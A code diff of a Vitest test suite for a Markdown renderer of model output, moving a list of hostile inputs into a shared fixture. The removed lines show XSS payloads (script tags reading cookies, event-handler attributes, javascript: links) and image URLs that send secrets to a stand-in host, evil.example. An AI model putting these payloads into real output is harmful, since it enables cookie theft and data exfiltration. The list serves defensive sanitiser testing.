@@ -1,5 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { renderMarkdown } from "../src/markdown";
+import hostile from "./fixtures/hostile_markdown.json";
 
 const ALLOWED = new Set(["P", "H1", "H2", "H3", "H4", "H5", "H6", "BLOCKQUOTE", "UL", "OL", "LI", "EM", "STRONG", "S", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN", "CODE", "PRE", "BR", "HR"]);
 
@@ -9,21 +10,7 @@ function render(text: string): HTMLElement {
   return box;
 }
 
-const HOSTILE = [
-  "<script>alert(document.cookie)</script>",
-  "<img src=x onerror=alert(1)>",
-  '<a href="https://evil.example/?q=secret">click</a>',
-  "![logo](https://evil.example/collect?q=SECRET)",
-  "![x][ref]\n\n[ref]: https://evil.example/ref?q=SECRET",
-  "[click me](javascript:alert(1))",
-  "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-  "<https://evil.example/autolink>",
-  '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
-  "<svg onload=alert(1)><use href=#x /></svg>",
-  "<details open ontoggle=alert(1)>x</details>",
-  '<div style="background:url(https://evil.example/bg)">styled</div>',
-  "```js\" onmouseover=\"alert(1)\nx\n```",
-];
+const HOSTILE: string[] = hostile; // shared with tests/test_safe_markdown.py
 
 describe("model output as Markdown", () => {
   for (const text of HOSTILE) {
